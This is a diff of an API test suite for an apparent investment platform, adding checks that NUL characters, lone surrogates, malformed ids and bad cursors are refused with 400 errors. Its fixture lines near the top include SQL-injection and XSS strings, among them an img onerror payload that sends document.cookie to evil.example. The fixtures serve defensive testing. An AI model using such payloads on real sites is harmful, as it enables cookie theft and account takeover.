@@ -17,6 +17,22 @@ const HTML = '<script>alert(1)</script>';
 const HTML_IMG = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">';
 /** Both at once, for the loops that try every field. */
 const SQL_AND_HTML = `${SQL_DROP}${HTML}`;
+/** Text Postgres refuses to store: a NUL character, and a lone UTF-16 surrogate (no UTF-8 form). */
+const NUL = 'a\u0000b';
+const LONE_SURROGATE = 'a\ud800b';
+/** Ids that are not uuids; 36 dashes passed the old `/^[0-9a-f-]{36}$/` check and reached Postgres. */
+const BAD_IDS = ['-'.repeat(36), 'not-a-uuid', '0000000g-0000-4000-8000-000000000000', '00000000-0000-4000-8000-0000000000000', `${SQL}`, 'a\u0000b'];
+/** A well-formed id that is nobody's. */
+const NOBODYS_ID = '00000000-0000-4000-8000-000000000000';
+const cursorOf = (text: string) => Buffer.from(text).toString('base64url');
+const BAD_CURSORS = [
+  'garbage',
+  cursorOf(`2020-01-01T00:00:00.000Z|${'-'.repeat(36)}`),
+  cursorOf(`1|${NOBODYS_ID}`),
+  cursorOf(`99999-01-01T00:00:00.000Z|${NOBODYS_ID}`),
+  cursorOf(`2020-01-01T00:00:00.000Z|${NOBODYS_ID}\u0000`),
+  cursorOf('|'),
+];
 
 let serial = 0;
 const uname = () => `bad_${Date.now().toString(36)}${serial++}`;
@@ -140,6 +156,8 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
         (SELECT count(*)::int FROM password_reset_tokens) AS reset_tokens,
         (SELECT max(updated_at) FROM users) AS last_user_update,
         (SELECT md5(string_agg(key || locale || value::text, ',' ORDER BY key, locale)) FROM site_content) AS site_content,
+        (SELECT md5(string_agg(id || status || amount::text, ',' ORDER BY id)) FROM transactions) AS transactions,
+        (SELECT count(*)::int FROM kyc_requests) AS kyc_requests,
         (SELECT row_to_json(u) FROM users u WHERE id = $1) AS me`,
       [investor.user.id],
     );
@@ -224,6 +242,15 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
       }
       // the tables are still there
       expect((await t.db.query(`SELECT count(*)::int AS n FROM users`)).rows[0].n).toBeGreaterThan(0);
+    });
+
+    it('refuses a NUL character or a lone surrogate in any text field (400 BAD_USER_INPUT, nothing changed)', async () => {
+      for (const field of endpoint.strings) {
+        for (const text of [NUL, LONE_SURROGATE]) {
+          const res = await expectRefusedAndUnchanged(() => post({ ...endpoint.body(), [field]: text }), 400);
+          expect(res.body).toEqual({ status: 'error', code: 'BAD_USER_INPUT', message: `"${field}" contains a character that is not allowed (a NUL character or invalid Unicode).` });
+        }
+      }
     });
   });
 
@@ -497,6 +524,16 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
         expect(res.status).toBeLessThan(500);
         if (res.errors) expectGqlError(res);
       });
+
+      it('refuses a NUL character or a lone surrogate in every text field (400 BAD_USER_INPUT, nothing changed)', async () => {
+        const fields = Object.entries(m.input()).filter(([, value]) => typeof value === 'string').map(([key]) => key);
+        expect(fields.length).toBeGreaterThan(0);
+        for (const field of fields) {
+          for (const text of [NUL, LONE_SURROGATE]) {
+            await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables({ ...m.input(), [field]: text })), 'BAD_USER_INPUT', 400);
+          }
+        }
+      });
     });
 
     it('refuses a syntax error (400 GRAPHQL_PARSE_FAILED)', async () => {
@@ -635,6 +672,181 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
     });
   });
 
+  describe('text Postgres refuses, malformed ids and cursors: 400 at the edge, never a 500', () => {
+    const INVALID_TEXT = /contains a character that is not allowed \(a NUL character or invalid Unicode\)\.$/;
+    const q = encodeURIComponent;
+
+    /** Refused at the edge: HTTP 400. A resolver's refusal (`status` 200) is an ordinary GraphQL error, as everywhere in the API. */
+    async function expectGqlBadInput(client: ApiClient, query: string, variables?: Record<string, unknown>, status = 400) {
+      const before = await snapshot();
+      const res = await client.gql(query, variables);
+      expectGqlError(res, 'BAD_USER_INPUT');
+      expect(res.status).toBe(status);
+      expect(res.data ?? null).toBeNull();
+      expect(await snapshot()).toEqual(before);
+      return res;
+    }
+
+    it('refuses NUL and lone surrogates on the REST paths the issue names (withdrawal, deposit reference, plan id, ...) and in query strings', async () => {
+      const me = investor.client;
+      for (const text of [NUL, LONE_SURROGATE]) {
+        const posts: Array<[string, Record<string, unknown>]> = [
+          ['/api/insert/new_withdrawal', { coin_name: text, network: 'BTC', wallet_address: 'bc1qcr8te4kr609gcawutmrza0j4xv80jy8z306fyu', amount: '10' }],
+          ['/api/insert/new_withdrawal', { coin_name: 'BTC', network: 'BTC', wallet_address: text, amount: '10' }],
+          ['/api/insert/deposit_wallet', { wallet: text }],
+          ['/api/update/deposit_track', { reference_id: text, amount: '10', wallet_address: 'x' }],
+          ['/api/delete/delete-transaction', { reference_id: text }],
+          ['/api/fetch/plan_eligibility', { uniqId: text }],
+          ['/api/update/plan_selected', { planId: text, amount: '100' }],
+        ];
+        for (const [path, body] of posts) {
+          const res = await expectRefusedAndUnchanged(() => me.post(path, body), 400);
+          expect(res.body.code).toBe('BAD_USER_INPUT');
+          expect(res.body.message).toMatch(INVALID_TEXT);
+        }
+      }
+      for (const path of [
+        '/api/fetch/deposit_reference?reference_id=a%00b',
+        '/api/fetch/check_deposit_eligibility?reference_id=%00',
+        '/api/fetch/fetch_instant_trasaction?transactionid=%00',
+        '/api/fetch/deposit_reference?reference_id=%ED%A0%80',
+        '/api/site_content?lang=%00',
+        '/api/fetch/all_transactions?x=%00',
+      ]) {
+        const res = await expectRefusedAndUnchanged(() => me.get(path));
+        // an undecodable escape (%ED%A0%80) is kept as written and is then only an unknown reference
+        if (!path.includes('%ED')) {
+          expect(res.status).toBe(400);
+          expect(res.body.message).toMatch(INVALID_TEXT);
+        }
+      }
+    });
+
+    it('refuses NUL in a multipart text field (REST deposit submission) and stores nothing', async () => {
+      const form = new FormData();
+      form.set('reference_id', NUL);
+      form.set('tnx_id', 'abc');
+      form.set('screenshot_file', new Blob([await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).png().toBuffer()], { type: 'image/png' }), 'a.png');
+      const res = await expectRefusedAndUnchanged(() => investor.client.post('/api/insert/new_deposit', form), 400);
+      expect(res.body).toMatchObject({ code: 'BAD_USER_INPUT' });
+      expect(res.body.message).toMatch(INVALID_TEXT);
+    });
+
+    it('refuses NUL and lone surrogates in GraphQL variables on the paths the issue names', async () => {
+      const me = investor.client;
+      for (const text of [NUL, LONE_SURROGATE]) {
+        for (const [query, variables] of [
+          [`mutation($i: RequestWithdrawalInput!) { requestWithdrawal(input: $i) { id } }`, { i: { coinName: text, walletAddress: 'bc1qcr8te4kr609gcawutmrza0j4xv80jy8z306fyu', amount: '10' } }],
+          [`mutation($w: String!) { startDeposit(wallet: $w) { referenceId } }`, { w: text }],
+          [`query($r: String!) { depositDraft(referenceId: $r) { referenceId } }`, { r: text }],
+          [`mutation($r: String!) { cancelDeposit(referenceId: $r) }`, { r: text }],
+          [`mutation($u: String!) { selectPlan(uniqId: $u) { uniqId } }`, { u: text }],
+          [`query($s: String) { transactions(search: $s) { totalCount } }`, { s: text }],
+        ] as Array<[string, Record<string, unknown>]>) {
+          const res = await expectGqlBadInput(me, query, variables);
+          expect(res.errors![0].message).toMatch(INVALID_TEXT);
+        }
+      }
+    });
+
+    it('refuses NUL and lone surrogates written inline in the GraphQL query, over POST and GET', async () => {
+      for (const literal of ['a\\u0000b', '\\u{0}', 'x\\u{000}y']) {
+        const res = await expectGqlBadInput(investor.client, `{ transactions(search: "${literal}") { totalCount } }`);
+        expect(res.errors![0].message).toMatch(INVALID_TEXT);
+      }
+      // graphql-js itself refuses a lone surrogate escape as a syntax error
+      for (const literal of ['\\uD800', '\\uDC00x']) {
+        const res = await investor.client.gql(`{ transactions(search: "${literal}") { totalCount } }`);
+        expectGqlError(res, 'GRAPHQL_PARSE_FAILED');
+        expect(res.status).toBe(400);
+      }
+      // a surrogate pair written as two escapes is one valid character
+      const pair = await investor.client.gql(`{ transactions(search: "\\uD83D\\uDE00") { totalCount } }`);
+      expect(pair.errors).toBeUndefined();
+      for (const path of [
+        `/graphql?query=${q('query($s: String) { transactions(search: $s) { totalCount } }')}&variables=${q(JSON.stringify({ s: NUL }))}`,
+        `/graphql?query=${q('{ transactions(search: "\\u0000") { totalCount } }')}`,
+      ]) {
+        const res = await investor.client.raw(path, { headers: { 'apollo-require-preflight': 'true' } });
+        expect(res.status).toBe(400);
+        const body = (await res.json()) as { errors: Array<{ message: string; extensions: { code: string } }> };
+        expect(body.errors[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT' }, message: expect.stringMatching(INVALID_TEXT) });
+      }
+    });
+
+    it('refuses NUL in a GraphQL multipart request and stores nothing', async () => {
+      const { client, user } = await createInvestor(t);
+      const form = new FormData();
+      form.set('operations', JSON.stringify({ query: 'mutation($a: Upload!, $n: String) { uploadAvatar(avatar: $a) { avatar } }', variables: { a: null, n: NUL } }));
+      form.set('map', JSON.stringify({ '0': ['variables.a'] }));
+      form.set('0', new Blob([await sharp({ create: { width: 16, height: 16, channels: 3, background: '#0f0' } }).png().toBuffer()], { type: 'image/png' }), 'a.png');
+      const res = await client.raw('/graphql', { method: 'POST', body: form, headers: { 'apollo-require-preflight': 'true' } });
+      expect(res.status).toBe(400);
+      const body = (await res.json()) as { errors: Array<{ extensions: { code: string } }> };
+      expect(body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
+      expect((await t.db.query(`SELECT avatar FROM users WHERE id = $1`, [user.id])).rows[0].avatar).toBeNull();
+    });
+
+    it('refuses malformed ids (36 dashes and others) with 400 on every id-taking path, and answers 404 for a well-formed id that is nobody\'s', async () => {
+      for (const id of BAD_IDS) {
+        const rest = await expectRefusedAndUnchanged(() => investor.client.get(`/api/fetch/fetch_instant_trasaction?transactionid=${q(id)}`), 400);
+        expect(rest.body.code).toBe('BAD_USER_INPUT');
+        for (const [client, query, variables] of [
+          [investor.client, `query($id: ID!) { transaction(id: $id) { id } }`, { id }],
+          [investor.client, `mutation($id: ID!) { endSession(id: $id) }`, { id }],
+          [investor.client, `query($a: String) { myActivity(after: $a) { id } }`, { a: id }],
+          [admin, `mutation($id: ID!) { approveDeposit(transactionId: $id) { id } }`, { id }],
+          [admin, `mutation($id: ID!) { rejectDeposit(transactionId: $id, reason: "No payment arrived.") { id } }`, { id }],
+          [admin, `mutation($id: ID!) { approveWithdrawal(transactionId: $id) { id } }`, { id }],
+          [admin, `mutation($id: ID!) { rejectWithdrawal(transactionId: $id, reason: "Address is wrong.") { id } }`, { id }],
+          [admin, `mutation($id: ID!) { approveKyc(userId: $id) { id } }`, { id }],
+          [admin, `mutation($id: ID!) { rejectKyc(userId: $id, reason: "Blurry photo.") { id } }`, { id }],
+        ] as Array<[ApiClient, string, Record<string, unknown>]>) {
+          // a NUL is refused at the edge (400); other malformed ids by the resolver (a GraphQL error)
+          await expectGqlBadInput(client, query, variables, id.includes('\u0000') ? 400 : 200);
+        }
+      }
+      expectRestError(await investor.client.get(`/api/fetch/fetch_instant_trasaction?transactionid=${NOBODYS_ID}`), 404);
+      for (const [client, query] of [
+        [investor.client, `query($id: ID!) { transaction(id: $id) { id } }`],
+        [admin, `mutation($id: ID!) { approveDeposit(transactionId: $id) { id } }`],
+        [admin, `mutation($id: ID!) { approveWithdrawal(transactionId: $id) { id } }`],
+      ] as Array<[ApiClient, string]>) {
+        expectGqlError(await client.gql(query, { id: NOBODYS_ID }), 'NOT_FOUND');
+      }
+    });
+
+    it('refuses malformed cursors with 400 (history, admin lists, activity)', async () => {
+      for (const after of BAD_CURSORS) {
+        for (const [client, query] of [
+          [investor.client, `query($a: String) { transactions(first: 2, after: $a) { totalCount } }`],
+          [admin, `query($a: String) { adminDeposits(first: 2, after: $a) { totalCount } }`],
+          [admin, `query($a: String) { adminWithdrawals(first: 2, after: $a) { totalCount } }`],
+          [investor.client, `query($a: String) { myActivity(after: $a) { id } }`],
+        ] as Array<[ApiClient, string]>) {
+          await expectGqlBadInput(client, query, { a: after }, 200);
+        }
+      }
+    });
+
+    it("maps Postgres's own invalid-value errors to BAD_USER_INPUT with a safe message (the last line behind the edge)", async () => {
+      const { toDomainError } = await import('../src/common/errors/to-domain-error');
+      for (const [sql, params, state] of [
+        [`SELECT $1::uuid`, ['-'.repeat(36)], '22P02'],
+        [`SELECT $1::text`, ['a\u0000b'], '22021'],
+        [`SELECT convert_from('\\xff'::bytea, 'UTF8')`, [], '22021'],
+        [`SELECT $1::date`, ['not a date'], '22007'],
+        [`SELECT $1::timestamptz`, ['2020-13-45 99:99'], '22008'],
+        [`SELECT $1::numeric(5, 2)`, ['1e10'], '22003'],
+      ] as Array<[string, unknown[], string]>) {
+        const error = await t.db.query(sql, params).then(() => undefined, (e: unknown) => e);
+        expect((error as { code?: string })?.code).toBe(state);
+        const domain = toDomainError(error);
+        expect({ kind: domain.kind, message: domain.message }).toEqual({ kind: 'BAD_USER_INPUT', message: 'A value in the request is not valid.' });
+      }
+    });
+  });
+
   describe('public GET endpoints', () => {
     it.each([
       'lang[]=ar',
@@ -642,7 +854,6 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
       'lang=ar&lang=fr',
       `lang=${encodeURIComponent(SQL)}`,
       `lang=${encodeURIComponent(HTML)}`,
-      'lang=%00',
       'lang=%E0%A4%A',
       `lang=${'x'.repeat(5000)}`,
       'lang',
